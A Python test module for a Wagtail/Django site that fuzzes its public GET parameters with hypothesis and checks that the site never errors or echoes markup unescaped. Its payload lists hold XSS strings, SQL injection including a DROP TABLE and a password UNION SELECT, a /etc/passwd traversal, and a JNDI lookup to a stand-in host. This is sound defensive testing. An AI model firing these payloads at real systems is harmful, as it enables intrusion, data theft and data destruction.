"""Random and hostile values for every public GET parameter (property-based, hypothesis):
the search page (q, side and its facets), the suggestions, the listings' filters and
pages, the pages with a page of cards, the theme pages, the workshop planner and the
sitemap. Whatever comes in
(control characters, very long strings, any Unicode, SQL, HTML and JavaScript, numbers out
of range, a parameter repeated, broken percent-encoding), the answer is 200, 400 or 404,
never a 500, and an HTML page never echoes a piece of markup unescaped.

The pages are the search tests' corpus (tests.search_support), built once for the module.
Each property runs a few dozen examples (HOSTILE_EXAMPLES) to keep the suite quick; set
HYPOTHESIS_EXAMPLES=1000 for a longer hunt by hand."""

import os
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from wagtail.models import Page

from kb.cases.models import CaseIndexPage, MunicipalityPage
from kb.conferences.models import ConferenceIndexPage, EventSeriesPage
from kb.methods.models import MethodIndexPage
from kb.themes.models import ThemeIndexPage

from . import factories
from .search_support import corpus_fixture

pytestmark = pytest.mark.django_db

corpus = corpus_fixture()

EXAMPLES = int(os.environ.get("HYPOTHESIS_EXAMPLES", "40"))
hostile_settings = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

ALLOWED = {200, 400, 404}
SEARCH_PARAMS = ["q", "side", "innhold", "tema", "kommune", "fase", "ar"]
LISTING_PARAMS = ["tema", "fase", "kommune", "ar", "side"]
# The public API's parameters (Wagtail's and ours, kb/api) and the pages it may be asked for.
API_PARAMS = [
    "type",
    "tema",
    "kommune",
    "limit",
    "offset",
    "fields",
    "order",
    "search",
    "search_operator",
    "child_of",
    "descendant_of",
    "ancestor_of",
    "site",
    "locale",
    "translation_of",
    "id",
    "html_path",
    "phase",
    "format",
]
API_URLS = ["/api/v2/pages/", "/api/v2/pages/find/", "/api/v2/themes/", "/api/v2/themes/find/"]
# The feeds, calendars and robots.txt read no parameters: any must leave them working.
OUTPUT_URLS = ["/feed/", "/feed/atom/", "/feed/metoder/", "/kalender.ics", "/robots.txt"]
PLANNER_PARAMS = ["navn", "start", "metode", "minutter", "legg_til"]

# Pieces of markup that must never come back as they are: each is distinctive, so finding
# it in a page can only mean an unescaped echo.
MARKUP = [
    "<script>alert('kb-xss-1')</script>",
    '"><img src=x onerror=alert("kb-xss-2")>',
    "'><svg/onload=alert(3)>kb-xss-3",
    "</title><b>kb-xss-4</b>",
    "<a href=javascript:alert(5)>kb-xss-5</a>",
]
OTHER_PAYLOADS = [
    "' OR '1'='1' --",
    "1; DROP TABLE wagtailcore_page; --",
    "1 UNION SELECT password FROM auth_user",
    "%' AND 1=1 AND '%'='",
    "\\",
    "\x00",
    "%00",
    "../../../../etc/passwd",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://example.invalid/a}",
    "‮ gnp.exe",  # right-to-left override
    "🎻" * 50,
    "ǅ\u0301\u0302\u0303" * 30,  # combining marks
    "samskaping" * 500,
    " ",
    "",
]
NUMBERS = st.one_of(
    st.integers(min_value=-(10**40), max_value=10**40).map(str),
    st.sampled_from(["0", "-1", "1e999", "NaN", "inf", "0x10", "1.5", "٣", "²", "１２"]),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
)
TEXT = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=60)
VALUES = st.one_of(
    TEXT,
    st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=20),  # control characters
    st.text(min_size=2000, max_size=8000),
    NUMBERS,
    st.sampled_from(MARKUP + OTHER_PAYLOADS),
    st.tuples(TEXT, st.sampled_from(MARKUP), TEXT).map("".join),
)


def params_for(names, values=VALUES, max_size=6):
    """A list of (name, value) pairs: known names and made-up ones, any repeated."""
    name = st.one_of(st.sampled_from(names), TEXT.filter(bool))
    return st.lists(st.tuples(name, values), max_size=max_size)


# The planner's values: the hostile ones, and small numbers that are the corpus's method
# ids (and minutes and clock times that could be right), so that plans are also built.
PLANNER_VALUES = st.one_of(
    VALUES,
    st.integers(min_value=-5, max_value=400).map(str),
    st.sampled_from(["09:00", "23:59", "24:00", "7.30", "18:00:00"]),
)


# Broken query strings, as no form would send them.
RAW_QUERY = st.lists(
    st.one_of(
        st.sampled_from(["q=", "side=", "tema=", "&", "=", "%", "%FF", "%C3", "%00", "+", ";"]),
        st.text(alphabet="qsidetma=&%0123456789ABCDEF+;", max_size=10),
    ),
    max_size=12,
).map("".join)


def assert_safe(response, pairs=()):
    assert response.status_code in ALLOWED, (response.status_code, pairs)
    if not response.get("Content-Type", "").startswith("text/html"):
        return
    body = response.content.decode("utf-8", errors="replace")
    for _name, value in pairs:
        for piece in MARKUP:
            if piece in value:
                assert piece not in body, piece
        # A value with markup of its own (random) is not in the page as it came.
        if re.search(r"<[A-Za-z/!]", value) and len(value) >= 8:
            assert value not in body, value


def public_urls():
    """One page of each kind that reads GET parameters."""
    urls = [
        MethodIndexPage.objects.get().url,
        CaseIndexPage.objects.get().url,
        ConferenceIndexPage.objects.get().url,
        ThemeIndexPage.objects.get().url,
        "/",
    ]
    for model in (MunicipalityPage, EventSeriesPage):
        if page := model.objects.live().first():
            urls.append(page.url)
    theme_index = ThemeIndexPage.objects.get()
    urls.append(theme_index.theme_url("samskaping"))
    return urls


@pytest.fixture(scope="module")
def urls(corpus, django_db_blocker):
    with django_db_blocker.unblock():
        factories.EventSeriesPageFactory(title="Digital formiddagskaffe")
        return public_urls()


def test_every_kind_of_page_is_tried(urls):
    assert len(urls) == 8, urls
    assert Page.objects.live().count() > 10


@hostile_settings
@given(pairs=params_for(SEARCH_PARAMS))
def test_search_answers_anything(client, corpus, pairs):
    assert_safe(client.get("/sok/", pairs), pairs)


@hostile_settings
@given(pairs=params_for(["q"]))
def test_suggestions_answer_anything(client, corpus, pairs):
    response = client.get("/sok/forslag/", pairs)
    assert_safe(response, pairs)
    if response.status_code == 200:
        assert response.json() is not None


@hostile_settings
@given(pairs=params_for(LISTING_PARAMS), which=st.integers(min_value=0, max_value=7))
def test_listings_and_pages_answer_anything(client, urls, pairs, which):
    assert_safe(client.get(urls[which], pairs), pairs)


@hostile_settings
@given(pairs=params_for(API_PARAMS), which=st.integers(min_value=0, max_value=3))
def test_the_api_answers_anything(client, corpus, pairs, which):
    response = client.get(API_URLS[which], pairs)
    assert response.status_code in {*ALLOWED, 302}, (response.status_code, pairs)
    if response.status_code == 200:
        assert response.json() is not None


@hostile_settings
@given(
    pairs=params_for(["type", "fields"]),
    kind=st.sampled_from(["methods.MethodPage", "cases.CaseStoryPage", "conferences.EventPage"]),
)
def test_the_api_field_filters_answer_anything(client, corpus, pairs, kind):
    # With a type, every field in its api_fields is a filter too.
    names = ["phase", "digital", "period_start", "start_date", "is_digital", "number"]
    extra = [(name, value) for name, (_, value) in zip(names, pairs, strict=False)]
    response = client.get("/api/v2/pages/", [("type", kind), *extra])
    assert response.status_code in ALLOWED, (response.status_code, extra)


@hostile_settings
@given(pairs=params_for(["tema", "side", "q"]), which=st.integers(min_value=0, max_value=4))
def test_feeds_and_calendars_answer_anything(client, corpus, pairs, which):
    response = client.get(OUTPUT_URLS[which], pairs)
    assert response.status_code == 200, (response.status_code, pairs)


@hostile_settings
@given(pairs=params_for(PLANNER_PARAMS, PLANNER_VALUES, max_size=30))
def test_the_planner_answers_anything(client, corpus, pairs):
    assert_safe(client.get("/moteplan/", pairs), pairs)


@hostile_settings
@given(pairs=params_for(["p"]))
def test_the_sitemap_answers_anything(client, corpus, pairs):
    assert_safe(client.get("/sitemap.xml", pairs), pairs)


@hostile_settings
@given(raw=RAW_QUERY, which=st.integers(min_value=0, max_value=10))
def test_broken_query_strings_are_answered(client, urls, raw, which):
    url = [*urls, "/sok/", "/sok/forslag/", "/moteplan/"][which]
    assert_safe(client.get(url, QUERY_STRING=raw))
